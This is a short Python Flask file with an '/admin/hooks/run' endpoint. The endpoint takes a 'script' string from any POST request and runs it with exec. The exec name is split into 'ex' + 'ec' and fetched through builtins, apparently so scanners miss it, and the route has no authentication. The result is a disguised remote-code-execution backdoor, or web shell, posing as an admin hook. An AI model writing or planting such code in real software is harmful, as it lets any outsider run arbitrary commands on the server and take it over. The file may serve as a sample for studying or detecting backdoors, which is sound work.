import builtins
from flask import Flask, request

app = Flask(__name__)

RUNNER_NAME = "ex" + "ec"


@app.post("/admin/hooks/run")
def run_hook():
    payload = request.get_json(force=True)
    source = payload.get("script", "")
    namespace = {"result": None}
    runner = vars(builtins)[RUNNER_NAME]
    runner(source, namespace)
    return {"ok": True, "result": repr(namespace.get("result"))}
